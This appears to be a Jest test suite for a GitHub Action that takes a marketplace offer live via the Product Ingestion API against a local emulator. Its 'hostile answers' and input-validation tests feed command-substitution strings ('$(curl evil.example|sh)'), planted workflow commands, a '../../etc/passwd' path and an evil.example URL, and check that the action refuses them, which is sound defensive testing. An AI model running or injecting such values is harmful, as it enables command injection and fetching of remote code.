// Going live through the Product Ingestion API, end to end: the committed bundle, run as the runner
// runs it, against the PIA emulator on loopback (and the identity emulator for sign-in).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { DEFAULT_TOKEN } from '../../emulator/cpp-emulator.js'
import { fakeJwt, GITHUB_ISSUER, startIdentityEmulator } from '../../emulator/identity-emulator.js'
import { CONFIGURE_SCHEMA, startPiaEmulator, SUBMISSION_SCHEMA, type PiaEmulator } from '../../emulator/pia-emulator.js'
import { cancelledJob, endlessJob, failedCertificationJob, SUBMISSION_NUMBERS, succeedingJob } from '../../emulator/pia-scenarios.js'
import { runAction, type RunResult } from '../../scripts/run-action.js'
import { onlyResults } from '../helpers/results-only.js'
import { onlyRow } from '../helpers/summary-rows.js'

let pia: PiaEmulator
beforeAll(async () => {
  pia = await startPiaEmulator()
})
afterAll(() => pia.close())
beforeEach(() => pia.reset())

const inputs = (extra: Record<string, string> = {}) => ({
  api: 'product-ingestion',
  offer: 'contoso-vm',
  token: DEFAULT_TOKEN,
  'base-url': pia.url,
  'poll-interval': '20ms',
  ...extra
})
const posts = () => pia.requestsTo('POST', '/configure')
const jobReads = () => pia.requestsTo('GET', '/status')
const GUID = '[0-9a-f-]{36}'
const { live: LIVE, preview: PREVIEW, failedPreview: FAILED_PREVIEW, publishing: PUBLISHING } = SUBMISSION_NUMBERS

function expectNoPost(result: RunResult): void {
  expect(posts()).toHaveLength(0)
  expect(result.stdout).not.toContain('Sending the go-live request')
}

describe('go live through the Product Ingestion API', () => {
  it('start -> wait -> succeeded: the exact configure body, the job recorded at once, times in the summary', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm' })
    const result = await runAction({ inputs: inputs({ wait: 'true', publisher: 'contoso' }) })
    expect(result.exitCode).toBe(0)
    expect(posts()).toHaveLength(1)
    expect(JSON.parse(posts()[0]?.body as string)).toEqual({
      $schema: CONFIGURE_SCHEMA,
      resources: [
        { $schema: SUBMISSION_SCHEMA, id: `submission/${guid}/${PREVIEW}`, product: `product/${guid}`, target: { targetType: 'live' } }
      ]
    })
    expect(posts()[0]?.query).toBe('?$version=2022-07-01')
    expect(posts()[0]?.headers['content-type']).toBe('application/json')
    expect(pia.requestsTo('GET', '/product')[0]?.query).toBe('?$version=2022-07-01&externalId=contoso-vm')
    const jobId = result.outputs['operation-id'] as string
    expect(jobId).toMatch(new RegExp(`^${GUID}$`))
    expect(result.outputs['operation-location']).toBe(`${pia.url}/configure/${jobId}/status?$version=2022-07-01`)
    expect(result.outputs.status).toBe('succeeded')
    expect(JSON.parse(result.outputs.operation as string)).toMatchObject({ jobStatus: 'completed', jobResult: 'succeeded', jobId })
    expect(jobReads()).toHaveLength(4)
    expect(result.stdout).toContain(`Go-live started for contoso/contoso-vm. Operation location: ${result.outputs['operation-location']}`)
    expect(result.stdout).toContain('Operation status: notStarted -> running')
    expect(result.stdout).toContain('Started at 2026-11-20T10:00:00.4220588Z')
    expect(result.stdout).toContain('Ended at 2026-11-20T10:42:00.4220588Z')
    expect(result.summary).toContain('## Go live: contoso/contoso-vm')
    expect(onlyRow(result.summary)[1]).toBe('✅ succeeded')
    // The location to copy, and Partner Center's page of the product, to open.
    expect(onlyRow(result.summary)[2]).toBe(
      `\`${result.outputs['operation-location']}\` · [Partner Center](https://partner.microsoft.com/dashboard/commercial-marketplace/offers/${guid}/overview)`
    )
    expect(onlyRow(result.summary)[3]).toBe('2026-11-20T10:00:00.4220588Z')
    expect(onlyRow(result.summary)[4]).toBe('2026-11-20T10:42:00.4220588Z')
  })

  it('takes the job id spelled jobID too', async () => {
    pia.addProduct({ externalId: 'contoso-vm', jobIdSpelling: 'jobID' })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(JSON.parse(result.outputs.operation as string).jobID).toBe(result.outputs['operation-id'])
    expect(result.outputs.status).toBe('succeeded')
  })

  it('a failed certification fails the step, says so, and says a re-run does not help', async () => {
    pia.addProduct({ externalId: 'contoso-vm', progression: failedCertificationJob() })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(result.outputs.status).toBe('failed')
    expect(result.stdout).toContain(
      '::error::The go-live failed: The preview failed certification: fix the issues Partner Center lists and publish a new preview; running the step again does not help; Operation failed: Certification: Issues found during Certification.'
    )
    expect(result.summary).toContain('- Operation failed: Certification: Issues found during Certification.')
  })

  it('a cancelled job ends as canceled', async () => {
    pia.addProduct({ externalId: 'contoso-vm', progression: cancelledJob() })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(result.outputs.status).toBe('canceled')
    expect(result.stdout).toContain('::error::The go-live was canceled: The job was cancelled.')
  })

  it('a re-run while the go-live runs follows the running live submission and sends no POST', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm', runningGoLive: 2 })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expectNoPost(result)
    expect(result.stdout).toContain(
      `A go-live of contoso-vm is already running (submission/${guid}/${PREVIEW}): following it instead of starting another.`
    )
    expect(result.outputs['operation-location']).toBe(`${pia.url}/submission/${guid}/${PREVIEW}?$version=2022-07-01`)
    expect(result.outputs['operation-id']).toBe(`submission/${guid}/${PREVIEW}`)
    expect(result.outputs.status).toBe('succeeded')
    expect(pia.requestsTo('GET', `/submission/${guid}/${PREVIEW}`)).toHaveLength(3)
    expect(result.summary).toMatch(/^\| \S+ \| ✅ succeeded \(followed\) \|/m)
  })

  it('already live with the newest preview: succeeds without a POST; operation is the entry the service sent', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm', state: 'live' })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expectNoPost(result)
    expect(result.stdout).toContain(
      `contoso-vm is live already with its newest preview (submission/${guid}/${LIVE}): nothing to take live, no request sent.`
    )
    expect(result.outputs.status).toBe('succeeded')
    expect(result.outputs['operation-location']).toBe(`${pia.url}/submission/${guid}/${LIVE}?$version=2022-07-01`)
    expect(JSON.parse(result.outputs.operation as string)).toEqual({
      $schema: 'https://schema.mp.microsoft.com/schema/submission/2022-03-01-preview2',
      id: `submission/${guid}/${LIVE}`,
      product: `product/${guid}`,
      target: { targetType: 'live' },
      lifecycleState: 'generallyAvailable',
      status: 'completed',
      result: 'succeeded',
      created: expect.stringMatching(/^2026-11-01T\d\d:\d\d:\d\d\.\d{7}Z$/)
    })
    expect(result.summary).toContain('(live already: nothing sent)')
    // The live submission names its product: its Partner Center page beside it.
    expect(onlyRow(result.summary)[2]).toBe(
      `\`${result.outputs['operation-location']}\` · [Partner Center](https://partner.microsoft.com/dashboard/commercial-marketplace/offers/${guid}/overview)`
    )
  })

  it('no preview: fails with "publish to preview first", no POST', async () => {
    pia.addProduct({ externalId: 'contoso-vm', state: 'no-preview' })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expectNoPost(result)
    expect(result.stdout).toContain(
      '::error::contoso-vm cannot go live now: there is no preview submission: publish to preview first, then go live.'
    )
  })

  it('one verdict: live, a newer preview succeeded, the newest preview failed: blocked, no POST, and says why', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm', state: 'preview-failed' })
    const why = `the newest preview submission (submission/${guid}/${FAILED_PREVIEW}) failed, so nothing goes live`
    const dryRun = await runAction({ inputs: inputs({ 'dry-run': 'true' }) })
    expect(dryRun.exitCode).toBe(0)
    expect(dryRun.outputs['offer-status']).toBe('failed')
    expect(dryRun.stdout).toContain(`::warning::Offer status: failed. T${why.slice(1)}`)
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expectNoPost(result)
    expect(result.stdout).toContain(`::error::contoso-vm cannot go live now: ${why}`)
    expect(onlyResults(result.outputs).error).not.toBe('')
  })

  it('an unknown product points at the CPP API', async () => {
    const result = await runAction({ inputs: inputs({ offer: 'legacy-offer' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain("::error::No product with the external id 'legacy-offer' was found through the Product Ingestion API.")
    expect(result.stdout).toContain('(api: cloud-partner-portal)')
  })

  it('explains "An In Progress submission already exists"', async () => {
    pia.addProduct({ externalId: 'contoso-vm', refuse: 'in-progress' })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expect(posts()).toHaveLength(1)
    expect(result.stdout).toContain(
      '::error::The go-live request was refused: a submission of contoso-vm is already in progress ("An In Progress submission already exists"). Wait for it to finish in Partner Center, then run the step again.'
    )
  })

  it('explains "The submission cannot be pushed to as its not the latest"', async () => {
    pia.addProduct({ externalId: 'contoso-vm', refuse: 'not-latest' })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expect(posts()).toHaveLength(1)
    expect(result.stdout).toContain(
      '::error::The go-live request was refused: a newer preview of contoso-vm was published meanwhile ("The submission cannot be pushed to as its not the latest"). Re-run the step to take that newer preview live.'
    )
  })

  it('another submission in progress (a publish): explained, no POST', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm', publishRunning: true })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expectNoPost(result)
    expect(result.stdout).toContain(
      `::error::contoso-vm cannot go live now: another submission is in progress (submission/${guid}/${PUBLISHING}, to preview, running)`
    )
  })

  it('rides out 5xx and 429 while waiting, honouring Retry-After', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    pia.injectFault({
      method: 'GET',
      path: '/status',
      kind: 'status',
      status: 503,
      times: 2,
      body: '{"error":{"code":"serviceUnavailable","message":"busy"}}'
    })
    pia.injectFault({ method: 'GET', path: '/status', kind: 'status', status: 429, headers: { 'retry-after': '1' } })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(result.outputs.status).toBe('succeeded')
    expect(result.stdout).toMatch(/Reading the go-live job's status: HTTP 503; retrying in/)
    const [, , third, fourth] = jobReads()
    expect(fourth!.at - third!.at).toBeGreaterThanOrEqual(990)
  })

  it('an ambiguous configure POST (answer lost) looks at the submissions and follows the go-live, with one POST', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm' })
    pia.injectFault({ method: 'POST', path: '/configure', kind: 'reset-after-accept' })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expect(posts()).toHaveLength(1)
    expect(result.stdout).toMatch(
      /::warning::The go-live \(configure\) request got no clear answer: .*looking for it in the product's submissions .* before anything is sent again\./
    )
    expect(result.outputs['operation-id']).toBe(`submission/${guid}/${PREVIEW}`)
    expect(result.outputs.status).toBe('succeeded')
  })
})

describe('whole lists through the Product Ingestion API', () => {
  it('a running go-live on page 2 of the submissions is followed, no POST', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm', runningGoLive: 1, pageSize: 4 })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(0)
    expectNoPost(result)
    expect(pia.requestsTo('GET', `/submission/${guid}`).filter((r) => r.query.includes('$skipToken=4'))).not.toHaveLength(0)
    expect(result.outputs['operation-id']).toBe(`submission/${guid}/${PREVIEW}`)
    expect(result.outputs.status).toBe('succeeded')
  })

  it('two products with the external id, on two pages: refused as ambiguous, naming both, before any POST', async () => {
    const first = pia.addProduct({ externalId: 'contoso-vm', pageSize: 1 })
    const second = pia.addProduct({ externalId: 'Contoso-VM', pageSize: 1 })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expectNoPost(result)
    expect(result.stdout).toContain(
      `::error::The product lookup for 'contoso-vm' is ambiguous: 2 products have that external id (product/${first}, product/${second})`
    )
    expect(pia.requestsTo('GET', '/submission/')).toHaveLength(0)
  })

  it('the product with the external id on page 2, after another one: taken live', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm' })
    const next = `${pia.url}/product?$version=2022-07-01&externalId=contoso-vm&$skipToken=0`
    pia.injectFault({
      method: 'GET',
      path: '/product',
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({
        value: [{ id: 'product/11111111-2222-3333-4444-555555555555', identity: { externalId: 'contoso-vm-gen2' } }],
        '@nextLink': next
      })
    })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(0)
    expect(posts()).toHaveLength(1)
    expect(JSON.parse(posts()[0]?.body as string).resources[0].product).toBe(`product/${guid}`)
  })

  it('a next page on another origin is refused, never read, and nothing is sent', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    pia.injectFault({
      method: 'GET',
      path: '/submission/',
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ value: [], '@nextLink': 'http://127.0.0.1:9/rp/product-ingestion/submission/x?$skipToken=1' })
    })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expectNoPost(result)
    expect(result.stdout).toContain(
      "::error::Listing the product's submissions failed: the link to the next page (@nextLink) points to http://127.0.0.1:9"
    )
  })
})

describe('hostile answers through the Product Ingestion API', () => {
  it('a 202 whose job id is not a plain id is never followed nor re-sent; the go-live may have started', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    pia.injectFault({
      method: 'POST',
      path: '/configure',
      kind: 'status',
      status: 202,
      contentType: 'application/json',
      body: '{"jobId":"$(curl evil.example|sh)"}'
    })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(posts()).toHaveLength(1)
    expect(onlyResults(result.outputs).error).not.toBe('')
    expect(result.stdout).toContain(
      "::error::The go-live may have started: run the step again to follow it (a re-run finds a running go-live and starts none twice). The go-live request was accepted (HTTP 202), but the service named no job (no jobId made of letters, digits and '-')"
    )
    expect(result.stdout).toContain('The go-live may have started: run the step again to follow it')
  })

  it('never follows a submission of another product that the listing slips in', async () => {
    pia.addProduct({ externalId: 'contoso-vm', state: 'no-preview' })
    const other = '11111111-2222-3333-4444-555555555555'
    const planted = [{ id: `submission/${other}/${PREVIEW}`, target: { targetType: 'live' }, status: 'running', result: 'pending' }]
    pia.injectFault({
      method: 'GET',
      path: '/submission/',
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ value: planted })
    })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(onlyResults(result.outputs).error).not.toBe('')
    expect(pia.requestsTo('GET', other)).toHaveLength(0)
    expect(result.stdout).toContain('publish to preview first')
    expectNoPost(result)
  })

  it('never re-triggers a running go-live listed under an id it does not accept (as the CPP path)', async () => {
    const guid = pia.addProduct({ externalId: 'contoso-vm' })
    const created = '2022-02-04T20:07:22.4220588Z'
    const value = [
      { id: `submission/${guid}/${PREVIEW}`, target: { targetType: 'preview' }, status: 'completed', result: 'succeeded', created },
      { id: `submission/${guid}/$(curl evil.example|sh)`, target: { targetType: 'live' }, status: 'running', result: 'pending', created }
    ]
    pia.injectFault({
      method: 'GET',
      path: `/submission/${guid}`,
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ value })
    })
    const result = await runAction({ inputs: inputs({ wait: 'true' }) })
    expect(result.exitCode).toBe(1)
    expect(onlyResults(result.outputs).error).not.toBe('')
    expect(result.stdout).toContain(
      `::error::A go-live of the product is already running, but the service lists it under an id the action does not accept ('submission/${guid}/$(curl evil.example|sh)')`
    )
    expectNoPost(result)
  })

  it('never takes live a product the lookup names under another external id', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    const other = { id: 'product/11111111-2222-3333-4444-555555555555', identity: { externalId: 'someone-else' } }
    pia.injectFault({
      method: 'GET',
      path: '/product',
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ value: [other] })
    })
    const result = await runAction({ inputs: inputs() })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain("::error::No product with the external id 'contoso-vm' was found")
    expect(pia.requestsTo('GET', '/submission/')).toHaveLength(0)
    expectNoPost(result)
  })

  it('job text cannot plant workflow commands', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    pia.injectFault({
      method: 'GET',
      path: '/status',
      kind: 'status',
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({
        jobStatus: 'running\n::stop-commands::x',
        errors: [{ code: 'a\n::add-mask::b', message: 'm\r\n::error::planted' }]
      })
    })
    const result = await runAction({ inputs: inputs({ wait: 'true' }), debug: true })
    expect(result.exitCode).toBe(0)
    const planted = result.stdout
      .split('\n')
      .filter((l) => /^\s*(::|##\[)/.test(l) && !/^::(error|warning|notice|debug)::/.test(l) && l !== `::add-mask::${DEFAULT_TOKEN}`)
    expect(planted).toEqual([])
    expect(result.stdout).toContain('Operation status: running ::stop-commands::x')
  })
})

describe('dry run through the Product Ingestion API', () => {
  it.each([
    [{ state: 'ready' }, 'waitingForPublisherReview', '::notice::Offer status: waitingForPublisherReview. The newest preview (submission/'],
    [{ state: 'live' }, 'succeeded', '::notice::Offer status: succeeded. Live already has the newest preview'],
    [{ state: 'no-preview' }, 'neverPublished', '::warning::Offer status: neverPublished. There is no preview submission'],
    [{ state: 'preview-failed' }, 'failed', '::warning::Offer status: failed. The newest preview submission (submission/'],
    [{ runningGoLive: 1 }, 'running', '::warning::Offer status: running. A go-live is already running'],
    [{ publishRunning: true }, 'running', '::warning::Offer status: running. Another submission is in progress']
  ] as const)('%j: offer-status %s, exit 0, no POST', async (setup, offerStatus, line) => {
    pia.addProduct({ externalId: 'contoso-vm', ...setup })
    const result = await runAction({ inputs: inputs({ 'dry-run': 'true' }) })
    expect(result.exitCode).toBe(0)
    expectNoPost(result)
    expect(result.outputs['offer-status']).toBe(offerStatus)
    expect(result.stdout).toContain(line)
    expect(onlyRow(result.summary)[1]).toBe(`\`${offerStatus}\``)
  })
})

describe('attach with operation-location', () => {
  it('to a job status URL (absolute or as a path) and to a submission URL', async () => {
    pia.addProduct({ externalId: 'contoso-vm', progression: [...endlessJob(), ...endlessJob(), ...succeedingJob()] })
    const first = await runAction({ inputs: inputs() })
    const jobUrl = first.outputs['operation-location'] as string
    pia.requests.length = 0
    const byUrl = await runAction({ inputs: inputs({ 'operation-location': jobUrl }) })
    expect(byUrl.exitCode).toBe(0)
    expect(byUrl.outputs.status).toBe('running')
    expect(byUrl.outputs['operation-location']).toBe(jobUrl)
    const byPath = await runAction({ inputs: inputs({ 'operation-location': new URL(jobUrl).pathname, wait: 'true' }) })
    expect(byPath.exitCode).toBe(0)
    expect(byPath.outputs.status).toBe('succeeded')
    expect(pia.requests.every((r) => r.method === 'GET' && r.path.endsWith('/status'))).toBe(true)

    const guid = pia.addProduct({ externalId: 'other-vm', runningGoLive: 1 })
    const submission = await runAction({
      inputs: inputs({ offer: 'other-vm', 'operation-location': `${pia.url}/submission/${guid}/${PREVIEW}`, wait: 'true' })
    })
    expect(submission.exitCode).toBe(0)
    expect(submission.outputs['operation-id']).toBe(`submission/${guid}/${PREVIEW}`)
    expect(submission.outputs.status).toBe('succeeded')
  })

  it.each([
    [`/rp/product-ingestion/configure/not_a.plain-id/status`, 'is not a Product Ingestion job or submission path'],
    [`/rp/product-ingestion/../../etc/passwd`, "contains a '.' or '..' path segment"],
    [`/elsewhere/configure/56615b67-2185-49fe-80d2-c4ddf77bb2e8/status`, 'is not under /rp/product-ingestion'],
    ['https://evil.example/rp/product-ingestion/configure/56615b67-2185-49fe-80d2-c4ddf77bb2e8/status', 'points to https://evil.example']
  ])('refuses %s before any request', async (location, message) => {
    const result = await runAction({ inputs: inputs({ 'operation-location': location }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain(`::error::Input 'operation-location' ${message}`)
    expect(pia.requests).toHaveLength(0)
  })
})

describe('inputs and sign-in for the Product Ingestion API', () => {
  it('refuses an unknown api', async () => {
    const result = await runAction({ inputs: inputs({ api: 'partner-center' }) })
    expect(result.exitCode).toBe(1)
    expect(result.stdout).toContain(
      "::error::Input 'api' must be 'auto', 'cloud-partner-portal' or 'product-ingestion'; got 'partner-center'"
    )
    expect(pia.requests).toHaveLength(0)
  })

  it('warns when a static token is for the CPP API, naming both audiences', async () => {
    pia.addProduct({ externalId: 'contoso-vm' })
    const token = fakeJwt({ aud: 'https://cloudpartner.azure.com', exp: Math.floor(Date.now() / 1000) + 3600 })
    pia.acceptToken(token)
    const result = await runAction({ inputs: inputs({ token }) })
    expect(result.stdout).toContain(
      "::warning::The 'token' input is for https://cloudpartner.azure.com (its audience is 'https://cloudpartner.azure.com'), but the API chosen with 'api' takes tokens for https://graph.microsoft.com"
    )
  })

  it.each(['client-secret', 'github-oidc'] as const)('signs in with %s for the Microsoft Graph scope', async (method) => {
    const clientId = '11111111-2222-3333-4444-555555555555'
    const tenantId = '99999999-8888-7777-6666-555555555555'
    const subject = 'repo:contoso/offers:ref:refs/heads/main'
    const identity = await startIdentityEmulator({
      apps: [
        { tenantId, clientId, secrets: ['s3cret'], federated: [{ issuer: GITHUB_ISSUER, subject, audience: 'api://AzureADTokenExchange' }] }
      ],
      onToken: (token) => pia.acceptToken(token),
      githubSubject: subject
    })
    try {
      pia.addProduct({ externalId: 'contoso-vm' })
      const signIn = { 'client-id': clientId, 'tenant-id': tenantId, 'authority-host': identity.authorityHost, token: '' }
      const result = await runAction({
        inputs: inputs(method === 'client-secret' ? { ...signIn, 'client-secret': 's3cret' } : signIn),
        env:
          method === 'client-secret'
            ? { NODE_EXTRA_CA_CERTS: identity.githubOidcEnv.NODE_EXTRA_CA_CERTS as string }
            : identity.githubOidcEnv
      })
      expect(result.exitCode).toBe(0)
      const tokenRequests = identity.requests.filter((r) => r.path.endsWith('/oauth2/v2.0/token')).map((r) => new URLSearchParams(r.body))
      expect(tokenRequests.map((p) => p.get('scope'))).toEqual(['https://graph.microsoft.com/.default'])
      expect(identity.issued).toHaveLength(1)
      expect(posts()[0]?.headers.authorization).toBe(`Bearer ${identity.issued[0]?.token}`)
      if (method === 'github-oidc') expect(identity.githubTokens).toHaveLength(1)
    } finally {
      await identity.close()
    }
  })
})
